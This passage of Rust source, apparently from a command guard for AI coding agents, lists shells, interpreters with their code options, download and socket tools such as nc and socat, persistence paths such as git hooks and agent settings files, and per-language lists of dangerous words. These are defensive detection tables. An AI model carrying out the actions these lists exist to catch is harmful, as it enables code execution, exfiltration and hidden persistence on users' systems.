//! What the reader knows about programs, as data: the shells and how they take a script,
//! the interpreters and how they take code, the programs that pass text along, the long
//! options each guarded program has, and the options through which a program runs a command.
//! Wrappers are in [`crate::wrapper`]. Each row has a test below.

use std::sync::LazyLock;

use crate::by_name::{self, ByName};
use crate::name_filter::NameFilter;

/// Folders project tools put first on `PATH`, so that a program named as a file in one
/// runs it: `npx` and `npm run` (`node_modules/.bin`), an activated Python virtual
/// environment (`.venv/bin`, `venv/bin`), Composer (`vendor/bin`)
pub(crate) const PROJECT_BIN_FOLDERS: &[&str] = &[
    "/node_modules/.bin",
    "/.venv/bin",
    "/venv/bin",
    "/vendor/bin",
];

/// Programs that are shells: `-c` hands them a script, and without a script file they run
/// their input
pub(crate) const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "yash", "posh", "tcsh", "csh", "fish",
    "rbash", "lksh", "pdksh", "oksh", "loksh", "nu", "elvish", "xonsh", "rc", "es", "osh", "ysh",
    "oil",
];

/// Folders whose files run later as scripts, with no hook call to judge what they run: git's
/// hooks (githooks(5)), run by `git commit`, `checkout`, `merge`, …, and husky's, which git
/// runs through `core.hooksPath`
const LATER_SCRIPT_FOLDERS: &[&str] = &["/.git/hooks/", "/.husky/"];

/// Whether the file at `path`, normalised, runs later as a script (see
/// [`LATER_SCRIPT_FOLDERS`]): what a line writes into it runs then
pub(crate) fn runs_later(path: &str) -> bool {
    LATER_SCRIPT_FOLDERS
        .iter()
        .any(|folder| path.contains(folder))
        || configures_agent(path)
}

/// The settings files of the coding agents that name the commands their hooks run (and
/// the guard itself): Claude Code's and Gemini CLI's, in a project and the home, and
/// Codex's. A line that writes one changes what runs later with no check.
const AGENT_SETTINGS: &[&str] = &[
    "/.claude/settings.json",
    "/.claude/settings.local.json",
    "/.gemini/settings.json",
    "/.codex/config.toml",
    "/.codex/hooks.json",
];

/// Whether the file at `path`, normalised, is an agent's settings (see [`AGENT_SETTINGS`])
pub(crate) fn configures_agent(path: &str) -> bool {
    AGENT_SETTINGS.iter().any(|file| path.ends_with(file))
}

/// The shells of [`SHELLS`] whose scripts read as bash reads them, near enough for the text
/// of a file the line wrote to be read as the script it runs (`cat > x.sh <<'EOF' … sh
/// x.sh`); a script for another (`fish`, `xonsh`, `nu`, `csh`) stays unknown
pub(crate) const BOURNE_SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "yash", "posh", "rbash", "lksh", "pdksh",
    "oksh", "loksh", "osh",
];

/// A shell's long options that take the next word as their value (`bash --rcfile FILE`,
/// `fish --init-command CMD` runs before the script, which makes it no less the script's)
pub(crate) const SHELL_VALUED_LONG: &[&str] = &["--rcfile", "--init-file"];

/// The environment variables that name folders a program looks for the code it loads in
/// (the rows of [`AUTORUNS`] name them): a file the line writes below one is loaded by
/// name. What run time adds to them (`$LD_LIBRARY_PATH:./lib`) is the user's environment
/// on a line that writes no file; on one that does, it may be the folder written.
pub(crate) const SEARCH_PATH_VARIABLES: &[&str] = &[
    "LD_LIBRARY_PATH",
    "PYTHONPATH",
    "PERL5LIB",
    "PERLLIB",
    "RUBYLIB",
    "NODE_PATH",
];

/// The environment variables bash defines a function from (`BASH_FUNC_ls%%='() { …; }'`):
/// exported functions, which a shell it starts runs when a name is called
pub(crate) const FUNCTION_VARIABLES: &str = "BASH_FUNC_*";

/// Programs that run a script read from their input when given no file (`echo cmd | at now`)
pub(crate) const STDIN_RUNNERS: &[&str] = &["at", "batch"];

/// Paths that name a program's own input, read as a script file: the script is its input
pub(crate) const STDIN_PATHS: &[&str] = &["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];

/// The file `at` or `batch` reads its job from instead of its input, at(1)'s `-f FILE`
/// (glued, `-fFILE`, or after flags that take no value, `-mf FILE`)
pub(crate) fn job_file(args: &[String]) -> Option<&str> {
    let mut words = args.iter().take_while(|arg| *arg != "--");
    while let Some(arg) = words.next() {
        let Some(cluster) = arg.strip_prefix('-') else {
            continue;
        };
        let Some((flags, rest)) = cluster.split_once('f') else {
            continue;
        };
        if flags.chars().all(|flag| "mMlvc".contains(flag)) {
            return match rest {
                "" => words.next().map(String::as_str),
                glued => Some(glued),
            };
        }
    }
    None
}

/// The language of an interpreter's code, and how it is read
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Lang {
    /// Python, read with tree-sitter-python
    Python,
    /// JavaScript (`node`, `deno`, `bun`), read with tree-sitter-javascript
    JavaScript,
    /// Ruby, read with tree-sitter-ruby
    Ruby,
    /// PHP (`php -r` code, without `<?php`), read with tree-sitter-php
    Php,
    /// Perl: no grammar for the workspace's tree-sitter; judged by its words
    Perl,
    /// awk: no grammar on crates.io; judged by its words
    Awk,
    /// Lua: judged by its words
    Lua,
    /// Tcl (`tclsh`, `expect -c`): not read
    Tcl,
    /// R (`Rscript -e`): judged by its words
    R,
    /// PowerShell (`pwsh -c`): judged by its words, compared without case as PowerShell
    /// reads them
    PowerShell,
    /// Julia (`julia -e`): judged by its words
    Julia,
    /// AppleScript and JavaScript for Automation (`osascript -e`): judged by its words
    AppleScript,
    /// gnuplot's commands (`gnuplot -e`): judged by its words
    Gnuplot,
    /// Any other language an interpreter takes on its command line or its input (Elixir,
    /// Guile, Emacs Lisp, Octave, Groovy, Java in `jshell`, `dc`): not read
    Other,
}

/// How an interpreter takes code on its command line
#[derive(Debug)]
pub(crate) struct Interpreter {
    /// The program's name, or its name's start (`python` covers `python3.12`)
    pub(crate) name: &'static str,
    /// Whether `name` is a prefix of the program's name rather than all of it
    pub(crate) prefix: bool,
    /// The options whose value (the next word, or glued) is code: `-c`, `-e`
    pub(crate) code_options: &'static [&'static str],
    /// Whether, with no code option, the first operand is the code (`awk`)
    pub(crate) first_operand: bool,
    /// Whether code may be glued to a short code option (`-c'code'`), as getopt reads
    /// options; PowerShell takes whole parameter names only (`-Command`, `-ConfigurationName`)
    pub(crate) glued: bool,
    /// The language of the code, which says how it is read
    pub(crate) lang: Lang,
}

/// Words of Python code that reach files, processes or more code (when it cannot be parsed)
const PYTHON_DANGER: &[&str] = &[
    "rmtree",
    "remove",
    "unlink",
    "rmdir",
    "system",
    "subprocess",
    "popen",
    "exec",
    "eval",
    "__import__",
    "import_module",
    "spawn",
    "pty",
    "socket",
    "compile",
    "getattr",
    "b64",
    "decode",
    "codecs",
    "chmod",
    "chown",
    "rename",
    "replace",
    "truncate",
    "write",
    "kill",
    "shutil",
    "os.",
    "pathlib",
    "path(",
    "open(",
];

/// Words of Perl and Ruby code that reach files, processes or more code
const SCRIPT_DANGER: &[&str] = &[
    "system",
    "exec",
    "`",
    "qx",
    // Perl's `readpipe(EXPR)` is what backticks call; `IPC::Run`, `IPC::Cmd` and
    // `IPC::Open2` run commands under names of their own (`run`, `run_forked`, `open2`).
    "readpipe",
    "ipc::",
    "%x",
    "unlink",
    "rmtree",
    "remove_tree",
    "rm_",
    "rmdir",
    "fileutils",
    "delete",
    "fork",
    "open",
    "eval",
    "spawn",
    "syscall",
    "popen",
    "open3",
    "pack",
    "require",
    "load",
    "send",
    "instance_eval",
    "write",
    "rename",
    "chmod",
    "kill",
    // `symlink` and `link` make a path lead elsewhere, for a later command to delete or
    // write through; `truncate` empties a file.
    "link",
    "truncate",
    // A call whose callee is named by a string the code builds (`&{"POSIX::sys"."tem"}`,
    // `&$f`, `$main::{…}`, `->can(…)`, Ruby's `method(…)`) may be any of the words above;
    // `do FILE` runs a file. Decoding alone (`decode_json`, `decode_base64`) runs nothing.
    "&{",
    "&$",
    "*{",
    "::{",
    "->$",
    "can(",
    "->can",
    "method(",
    "const_get",
    "do \"",
    "do '",
    "do $",
    "do(",
];

/// Words of PowerShell code that reach files, processes or more code, with their aliases
/// (`ri`, `rm`, `del`, `iex`, `saps`, …); a `&` calls a command or a script block
const POWERSHELL_DANGER: &[&str] = &[
    "remove-item",
    "ri ",
    "rm ",
    "rmdir",
    "del ",
    "erase",
    "rd ",
    "clear-content",
    "clc ",
    "set-content",
    "sc ",
    "out-file",
    "add-content",
    "new-item",
    "ni ",
    "copy-item",
    "cp ",
    "cpi ",
    "move-item",
    "mv ",
    "mi ",
    "rename-item",
    "invoke-expression",
    "iex",
    "invoke-command",
    "icm",
    "start-process",
    "saps",
    "start ",
    "invoke-item",
    "ii ",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "&",
    ".invoke",
    "[system.",
    "frombase64",
    "scriptblock",
    "format-volume",
    "clear-disk",
    "stop-computer",
    "restart-computer",
    "cmd",
    "bash",
    "sh ",
    "/bin/",
    "exec",
    "set-executionpolicy",
];

/// Words of AppleScript (and of JavaScript for Automation) that reach files, processes, other
/// applications or more code
const APPLESCRIPT_DANGER: &[&str] = &[
    "do shell script",
    "doshellscript",
    "run script",
    "delete",
    "move",
    "duplicate",
    "keystroke",
    "key code",
    "system events",
    "finder",
    "terminal",
    "objc",
    "$.",
    "eval",
    "load script",
    "store script",
    "write",
    "open for access",
];

/// Words of Lua code that reach files, processes or more code: the `os` and `io` libraries,
/// code loaded at run time, native modules, and the global tables through which a name
/// made at run time reaches them (`_G["o".."s"]`); compared as substrings, so `os` also
/// stops `pos` and `close`, never the other way round
const LUA_DANGER: &[&str] = &[
    "os", "io", "load", "dofile", "require", "package", "debug", "_g", "_env", "fenv", "rawget",
    "ffi", "module",
];

/// Words of R code that reach files, processes or more code: `system`, `shell`, file
/// functions and every `file =` argument (`cat(…, file = "~/.bashrc")` writes), writers,
/// connections, code parsed or called by a name made at run time, native code, and
/// packages loaded or installed (a package runs code when loaded)
const R_DANGER: &[&str] = &[
    "system",
    "shell",
    "unlink",
    "file",
    "dir.",
    "write",
    "sink",
    "save",
    "pipe",
    "url",
    "socket",
    "download",
    "source",
    "eval",
    "parse",
    "do.call",
    "get",
    "match.fun",
    "sys.",
    ".call",
    ".c(",
    ".external",
    ".internal",
    ".primitive",
    "dyn.load",
    "library",
    "require",
    "namespace",
    "::",
    "install",
    "assign",
    "environment",
    "finalizer",
    "setwd",
    "quit",
    "q(",
];

/// Words of gnuplot's commands that reach processes or more commands (gnuplot's help):
/// `system`, a backquoted command, `!` and `shell`, a data file read from a command or an
/// output piped into one (`plot "< cmd"`, `set print "| cmd"`), commands loaded from a file
/// (`load`, `call`) and a session saved over one. A plot written to its output file is
/// the everyday use (`set output 'plot.png'`), and passes.
const GNUPLOT_DANGER: &[&str] = &[
    "system", "`", "!", "shell", "<", "|", "load", "call", "save",
];

/// Words of Julia code that reach files, processes or more code: commands (`run`, a
/// backquoted command), file functions, code evaluated or included, native calls, and
/// modules brought in (`Base.Filesystem`, `Pkg`, `Downloads`)
const JULIA_DANGER: &[&str] = &[
    "run",
    "`",
    "pipeline",
    "spawn",
    "rm",
    "mv",
    "cp",
    "write",
    "open",
    "touch",
    "mkdir",
    "mkpath",
    "chmod",
    "chown",
    "link",
    "cd(",
    "eval",
    "include",
    "meta",
    "ccall",
    "cglobal",
    "libc",
    "libdl",
    "base",
    "core",
    "getfield",
    "getproperty",
    "invoke",
    "pkg",
    "download",
    "socket",
    "kill",
    "env",
    "@",
    "using",
    "import",
    "serializ",
    "edit",
];

/// Words of JavaScript code that reach files, processes or more code (when it cannot be parsed)
const NODE_DANGER: &[&str] = &[
    "child_process",
    "exec",
    "spawn",
    "fork",
    "rmsync",
    ".rm(",
    "rmdir",
    "unlink",
    "eval",
    "function",
    "require",
    "import",
    "process.binding",
    "write",
    "rename",
    "chmod",
    "fs.",
    "fs/",
    "deno.",
    "bun.",
];

/// Words of PHP code that reach files, processes or more code (when it cannot be parsed)
const PHP_DANGER: &[&str] = &[
    "system",
    "exec",
    "passthru",
    "shell_exec",
    "popen",
    "proc_open",
    "unlink",
    "rmdir",
    "`",
    "eval",
    "assert",
    "base64",
    "create_function",
    "include",
    "require",
    "file_put",
    "fopen",
    "rename",
    "chmod",
    "call_user_func",
    "$_",
    "preg_replace",
    "delete",
    "cleandirectory",
    "process::",
];

/// Words of awk code that reach processes or files, besides the redirections of `print`
/// and `printf` (`crate::inline` finds those)
const AWK_DANGER: &[&str] = &["system", "getline"];

/// The interpreters whose command-line code is read for danger
pub(crate) const INTERPRETERS: &[Interpreter] = &[
    Interpreter {
        name: "python",
        prefix: true,
        code_options: &["-c"],
        glued: true,
        first_operand: false,
        lang: Lang::Python,
    },
    // IPython's code is Python with `!CMD` shell escapes and `%` magics, which
    // tree-sitter-python does not read: judged by its words.
    Interpreter {
        name: "ipython",
        prefix: true,
        code_options: &["-c"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "pypy",
        prefix: true,
        code_options: &["-c"],
        glued: true,
        first_operand: false,
        lang: Lang::Python,
    },
    Interpreter {
        name: "node",
        prefix: false,
        code_options: &["-e", "-p", "--eval", "--print"],
        glued: true,
        first_operand: false,
        lang: Lang::JavaScript,
    },
    Interpreter {
        name: "deno",
        prefix: false,
        code_options: &["eval"],
        glued: true,
        first_operand: false,
        lang: Lang::JavaScript,
    },
    Interpreter {
        name: "bun",
        prefix: false,
        code_options: &["-e", "--eval", "-p", "--print"],
        glued: true,
        first_operand: false,
        lang: Lang::JavaScript,
    },
    // TypeScript runners, node's `-e` for TypeScript.
    Interpreter {
        name: "tsx",
        prefix: false,
        code_options: &["-e", "--eval", "-p", "--print"],
        glued: true,
        first_operand: false,
        lang: Lang::JavaScript,
    },
    Interpreter {
        name: "ts-node",
        prefix: false,
        code_options: &["-e", "--eval", "-p", "--print"],
        glued: true,
        first_operand: false,
        lang: Lang::JavaScript,
    },
    // `-MMODULE=ARGS` is `use MODULE ARGS;` before the code (`-m` without the default
    // imports): what it loads and imports is code too (`-MIPC::Cmd=run`).
    Interpreter {
        name: "perl",
        prefix: true,
        code_options: &["-e", "-E", "-M", "-m"],
        glued: true,
        first_operand: false,
        lang: Lang::Perl,
    },
    Interpreter {
        name: "ruby",
        prefix: true,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::Ruby,
    },
    // rake(1): `-e`/`--execute` runs Ruby code and exits, `-p` prints its value, `-E` runs it
    // before the tasks.
    Interpreter {
        name: "rake",
        prefix: false,
        code_options: &[
            "-e",
            "--execute",
            "-p",
            "--execute-print",
            "-E",
            "--execute-continue",
        ],
        glued: true,
        first_operand: false,
        lang: Lang::Ruby,
    },
    // `rails runner CODE` (`rails r`) runs Ruby code in the application (a file named there
    // is read as code too, which only widens what is read).
    Interpreter {
        name: "rails",
        prefix: false,
        code_options: &["runner", "r"],
        glued: false,
        first_operand: false,
        lang: Lang::Ruby,
    },
    // irb reads Ruby from its input (or a file), one statement after another.
    Interpreter {
        name: "irb",
        prefix: false,
        code_options: &[],
        glued: true,
        first_operand: false,
        lang: Lang::Ruby,
    },
    // `php artisan tinker --execute=CODE` (Laravel's shell) runs PHP code too.
    Interpreter {
        name: "php",
        prefix: true,
        code_options: &["-r", "--run", "--execute"],
        glued: true,
        first_operand: false,
        lang: Lang::Php,
    },
    Interpreter {
        name: "lua",
        prefix: true,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::Lua,
    },
    // LuaJIT runs Lua 5.1's code and takes its options (luajit.org, "Running LuaJIT").
    Interpreter {
        name: "luajit",
        prefix: true,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::Lua,
    },
    // bpftrace(8): a probe's program may call `system("CMD")` (with `--unsafe`); its
    // language is not read.
    Interpreter {
        name: "bpftrace",
        prefix: false,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "tclsh",
        prefix: true,
        code_options: &[],
        glued: true,
        first_operand: false,
        lang: Lang::Tcl,
    },
    Interpreter {
        name: "wish",
        prefix: true,
        code_options: &[],
        glued: true,
        first_operand: false,
        lang: Lang::Tcl,
    },
    Interpreter {
        name: "expect",
        prefix: false,
        code_options: &["-c"],
        glued: true,
        first_operand: false,
        lang: Lang::Tcl,
    },
    Interpreter {
        name: "Rscript",
        prefix: false,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::R,
    },
    Interpreter {
        name: "R",
        prefix: false,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::R,
    },
    Interpreter {
        name: "pwsh",
        prefix: true,
        code_options: &["-c", "-C", "-Command", "-command", "-COMMAND", "--command"],
        glued: false,
        first_operand: false,
        lang: Lang::PowerShell,
    },
    Interpreter {
        name: "powershell",
        prefix: true,
        code_options: &["-c", "-C", "-Command", "-command", "-COMMAND", "--command"],
        glued: false,
        first_operand: false,
        lang: Lang::PowerShell,
    },
    Interpreter {
        name: "julia",
        prefix: true,
        code_options: &["-e", "--eval", "-E", "--print"],
        glued: true,
        first_operand: false,
        lang: Lang::Julia,
    },
    Interpreter {
        name: "osascript",
        prefix: false,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::AppleScript,
    },
    Interpreter {
        name: "gnuplot",
        prefix: false,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::Gnuplot,
    },
    Interpreter {
        name: "elixir",
        prefix: false,
        code_options: &["-e", "--eval"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    // Mix, Elixir's build tool, runs Elixir code given to its `run` task (`mix run -e`).
    Interpreter {
        name: "mix",
        prefix: false,
        code_options: &["-e", "--eval"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "erl",
        prefix: false,
        code_options: &["-eval"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    // m4's input is its code: `syscmd(...)` and `esyscmd(...)` run shell command lines.
    Interpreter {
        name: "m4",
        prefix: false,
        code_options: &[],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "guile",
        prefix: false,
        code_options: &["-c"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    // Languages whose code the reader does not read, given on the command line: Racket,
    // Common Lisp (SBCL, CLISP, ECL), Haskell (`ghc -e`), Scala, Kotlin, Clojure's Babashka
    // and Raku.
    Interpreter {
        name: "racket",
        prefix: false,
        code_options: &["-e", "--eval"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "sbcl",
        prefix: false,
        code_options: &["--eval"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "clisp",
        prefix: false,
        code_options: &["-x"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "ecl",
        prefix: false,
        code_options: &["-eval"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "ghc",
        prefix: false,
        code_options: &["-e"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "scala",
        prefix: false,
        code_options: &["-e"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "kotlin",
        prefix: false,
        code_options: &["-e"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "bb",
        prefix: false,
        code_options: &["-e", "--eval"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "raku",
        prefix: false,
        code_options: &["-e"],
        glued: false,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "octave",
        prefix: false,
        code_options: &["--eval"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "groovy",
        prefix: false,
        code_options: &["-e"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    // jshell runs Java from its input or a script file (`jshell x.jsh`).
    Interpreter {
        name: "jshell",
        prefix: false,
        code_options: &[],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "emacs",
        prefix: false,
        code_options: &["--eval", "-eval"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    // emacsclient(1): `-e`/`--eval` has the running Emacs evaluate its operands as Lisp.
    Interpreter {
        name: "emacsclient",
        prefix: false,
        code_options: &["--eval", "-e"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    // erb(1) runs the Ruby of the template it reads, from a file or its input (`<%= %x(id)
    // %>`): a template is code.
    Interpreter {
        name: "erb",
        prefix: false,
        code_options: &[],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    Interpreter {
        name: "dc",
        prefix: false,
        code_options: &["-e", "--expression"],
        glued: true,
        first_operand: false,
        lang: Lang::Other,
    },
    // gawk's and busybox's `-e`/`--source` add code beside `-f`'s files (on many systems
    // `awk` is gawk).
    Interpreter {
        name: "awk",
        prefix: false,
        code_options: &["-e", "--source"],
        glued: true,
        first_operand: true,
        lang: Lang::Awk,
    },
    Interpreter {
        name: "gawk",
        prefix: false,
        code_options: &["-e", "--source"],
        glued: true,
        first_operand: true,
        lang: Lang::Awk,
    },
    Interpreter {
        name: "mawk",
        prefix: false,
        code_options: &[],
        glued: true,
        first_operand: true,
        lang: Lang::Awk,
    },
    Interpreter {
        name: "nawk",
        prefix: false,
        code_options: &[],
        glued: true,
        first_operand: true,
        lang: Lang::Awk,
    },
];

/// The interpreter `program` is, if any
pub(crate) fn interpreter(program: &str) -> Option<&'static Interpreter> {
    static NAMES: LazyLock<NameFilter> =
        LazyLock::new(|| INTERPRETERS.iter().map(|row| row.name).collect());
    // A row with a version after its name (`python3.12`) is asked for every name the
    // program's trailing digits and dots may follow.
    let version = program
        .trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.')
        .len();
    let named = (version..=program.len())
        .filter_map(|end| program.get(..end))
        .any(|name| NAMES.may_hold(name));
    if !named {
        return None;
    }
    INTERPRETERS.iter().find(|row| {
        if row.prefix {
            program
                .strip_prefix(row.name)
                .is_some_and(|rest| rest.chars().all(|ch| ch.is_ascii_digit() || ch == '.'))
        } else {
            program == row.name
        }
    })
}

/// The code an interpreter is given on its command line: the value of each code option, or
/// (for `awk`) its first operand when no `-f` names a program file. A getopt-style short
/// option may end a cluster of flags or have the code glued to it (`perl -le CODE`,
/// `python3 -Bc CODE`, `perl -e'CODE'`); since a flag before it may be one that takes a value
/// (`python3 -Wc`), every word that may be code is given, so none is missed.
pub(crate) fn inline_code<'a>(row: &Interpreter, args: &'a [String]) -> Vec<&'a str> {
    let mut codes = Vec::new();
    let mut program_file = false;
    let mut unsure = false;
    let mut words = args.iter().peekable();
    while let Some(arg) = words.next() {
        for option in row.code_options {
            if arg == option {
                codes.extend(words.peek().map(|code| code.as_str()));
                continue;
            }
            // `node --eval=CODE`, `php --run=CODE`: a long option's value glued by `=`.
            if let Some(glued) = arg
                .strip_prefix(option)
                .filter(|_| option.len() > 2)
                .and_then(|rest| rest.strip_prefix('='))
            {
                codes.push(glued);
                continue;
            }
            let Some(letter) = option
                .strip_prefix('-')
                .filter(|letter| row.glued && letter.len() == 1)
            else {
                continue;
            };
            let Some(cluster) = arg.strip_prefix('-').filter(|rest| !rest.starts_with('-')) else {
                continue;
            };
            if let Some(at) = cluster.find(letter) {
                match cluster.get(at + 1..) {
                    Some("") | None => codes.extend(words.peek().map(|code| code.as_str())),
                    Some(glued) => codes.push(glued),
                }
            }
        }
        // A code option's value may also be a flag's (`awk -Fe`): the first operand is
        // still taken for code, so none is missed. With `-f`, the operands are files; after
        // an option awk's table does not know, which may take the next word, every operand
        // may be the code.
        if row.first_operand && !program_file {
            match awk_option(arg) {
                AwkOption::Program { valued } => {
                    if valued {
                        words.next();
                    }
                    program_file = true;
                }
                AwkOption::Valued => {
                    words.next();
                }
                AwkOption::Flag => {}
                AwkOption::Unknown => unsure = true,
                AwkOption::Operand => {
                    if !codes.contains(&arg.as_str()) {
                        codes.push(arg);
                    }
                    if !unsure {
                        return codes;
                    }
                }
            }
        }
    }
    codes
}

/// awk's options (gawk's, mawk's and busybox's) whose value is the next word, or glued to a
/// short one (`-F:`); the first four give the program, which is then no operand
pub(crate) const AWK_VALUED: &[&str] = &[
    "-f",
    "--file",
    "-E",
    "--exec",
    "-e",
    "--source",
    "-i",
    "--include",
    "-v",
    "--assign",
    "-F",
    "--field-separator",
    "-l",
    "--load",
    "-W",
];

/// How many of [`AWK_VALUED`] give the program (`-f FILE`, `-E FILE`, `-e CODE`)
const AWK_PROGRAM_OPTIONS: usize = 6;

/// gawk's options that take no value, or only one glued to them (`-dFILE`, `--lint=fatal`)
const AWK_FLAGS: &[&str] = &[
    "-b",
    "--characters-as-bytes",
    "-c",
    "--traditional",
    "-C",
    "--copyright",
    "-d",
    "--dump-variables",
    "-D",
    "--debug",
    "-g",
    "--gen-pot",
    "-h",
    "--help",
    "-L",
    "--lint",
    "-M",
    "--bignum",
    "-N",
    "--use-lc-numeric",
    "-n",
    "--non-decimal-data",
    "-o",
    "--pretty-print",
    "-O",
    "--optimize",
    "-p",
    "--profile",
    "-P",
    "--posix",
    "-r",
    "--re-interval",
    "-s",
    "--no-optimize",
    "-S",
    "--sandbox",
    "-t",
    "--lint-old",
    "-V",
    "--version",
    "--",
];

/// What a word of awk's command line is, read before its program
enum AwkOption {
    /// An option giving the program (`-f FILE`, `-e CODE`), its value next when `valued`
    Program { valued: bool },
    /// An option whose value is the next word
    Valued,
    /// An option whose value, if any, is in the word itself
    Flag,
    /// An option awk's tables do not name: it may take the next word
    Unknown,
    /// No option: the program, unless an option gave it
    Operand,
}

/// What `arg` is to awk: an option named whole (`-F`, `--assign=x=1`) or with its value
/// glued to a short one (`-F:`, `-vx=1`), or an operand
fn awk_option(arg: &str) -> AwkOption {
    if !arg.starts_with('-') || arg == "-" {
        return AwkOption::Operand;
    }
    let (name, inline) = match arg.split_once('=') {
        Some((name, _)) if arg.starts_with("--") => (name, true),
        _ if !arg.starts_with("--") && arg.len() > 2 => (arg.get(..2).unwrap_or(arg), true),
        _ => (arg, false),
    };
    match AWK_VALUED.iter().position(|option| *option == name) {
        Some(at) if at < AWK_PROGRAM_OPTIONS => AwkOption::Program { valued: !inline },
        Some(_) if inline => AwkOption::Flag,
        Some(_) => AwkOption::Valued,
        None if AWK_FLAGS.contains(&name) => AwkOption::Flag,
        None => AwkOption::Unknown,
    }
}

/// Libraries through which code drives what a command-line tool would (containers,
/// clusters, remote shells, machines), by the name code imports them under in Python,
/// JavaScript or Ruby: `docker.from_env().volumes.prune()` is `docker volume prune`. The
/// cloud providers' SDKs (`boto3`, `@aws-sdk`, `google.cloud`, `azure.mgmt`) are not here:
/// rules/cloud.rules reads their calls by name (`ask-sdk-delete`, `no-bulk-sdk-delete`).
pub(crate) const INFRASTRUCTURE_SDKS: &[&str] = &[
    "docker",
    "dockerode",
    "podman",
    "kubernetes",
    "@kubernetes/client-node",
    "kubeclient",
    "openstack",
    "libcloud",
    "hcloud",
    "digitalocean",
    "linode_api4",
    "proxmoxer",
    "libvirt",
    "pulumi",
    "paramiko",
    "fabric",
    "ssh2",
    "node-ssh",
    "net/ssh",
];

/// What a method of such a library is named when it removes, stops or runs something:
/// the start of its name or of a part of it (`delete_namespace`, `deleteNamespace`,
/// `prune`, `exec_run`, `exec_command`)
pub(crate) const DESTRUCTIVE_VERBS: &[&str] = &[
    "delete",
    "remove",
    "rm",
    "destroy",
    "terminate",
    "prune",
    "purge",
    "kill",
    "stop",
    "drop",
    "wipe",
    "flush",
    "truncate",
    "uninstall",
    "exec",
];

/// Words in code of `lang` that may delete files, run commands or evaluate more code: code
/// that is not parsed (Perl, awk, PowerShell, AppleScript, or code a grammar stumbles on)
/// and holds none of them (compared without case) is harmless. `None` for a language whose
/// code is not read at all: where a few words cannot tell what a language with many ways to
/// the system does (Tcl, whose every word may be a command), its code is known only when it
/// runs. Lua's, R's and Julia's ways in are few and named (`os`, `io`, `load`; `system`,
/// `file.`, `eval`; `run`, backquotes, `ccall`): code with none of them only computes.
pub(crate) fn dangerous_words(lang: Lang) -> Option<&'static [&'static str]> {
    match lang {
        Lang::Python => Some(PYTHON_DANGER),
        Lang::JavaScript => Some(NODE_DANGER),
        Lang::Php => Some(PHP_DANGER),
        Lang::Awk => Some(AWK_DANGER),
        Lang::Perl | Lang::Ruby => Some(SCRIPT_DANGER),
        Lang::PowerShell => Some(POWERSHELL_DANGER),
        Lang::AppleScript => Some(APPLESCRIPT_DANGER),
        Lang::Lua => Some(LUA_DANGER),
        Lang::R => Some(R_DANGER),
        Lang::Julia => Some(JULIA_DANGER),
        Lang::Gnuplot => Some(GNUPLOT_DANGER),
        Lang::Tcl | Lang::Other => None,
    }
}

/// The paths bash opens as network sockets in a redirect (`/dev/tcp/HOST/PORT`)
pub(crate) const NETWORK_DEVICES: &[&str] = &["/dev/tcp/", "/dev/udp/"];

/// Programs that fetch text from elsewhere: downloads and sockets
pub(crate) const DOWNLOADS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    // Text-mode browsers print a page's source (`lynx -source`, `w3m -dump_source`) or text.
    "lynx",
    "w3m",
    "links",
    "links2",
    "elinks",
    "fetch",
    "ftp",
    "tftp",
    "aria2c",
    "http",
    "https",
    "xh",
    "xhs",
    "curlie",
    "httpx",
    "lwp-request",
    "lwp-download",
    "GET",
    "POST",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "websocat",
    // DNS lookups print what a name's server answers (`dig +short TXT name`): text anyone
    // who owns the name writes.
    "dig",
    "drill",
    "kdig",
    "delv",
    "host",
    "nslookup",
    "axel",
];

/// Programs that pass along text they are given (decoders, filters, printers): with
/// [`DOWNLOADS`], what they print is never their own code, whatever their words
const FILTERS: &[&str] = &[
    "echo", "printf", "cat", "tac", "base64", "base32", "basenc", "xxd", "od", "rev", "tr", "sed",
    "awk", "gawk", "mawk", "perl", "python", "python2", "python3", "ruby", "node", "php",
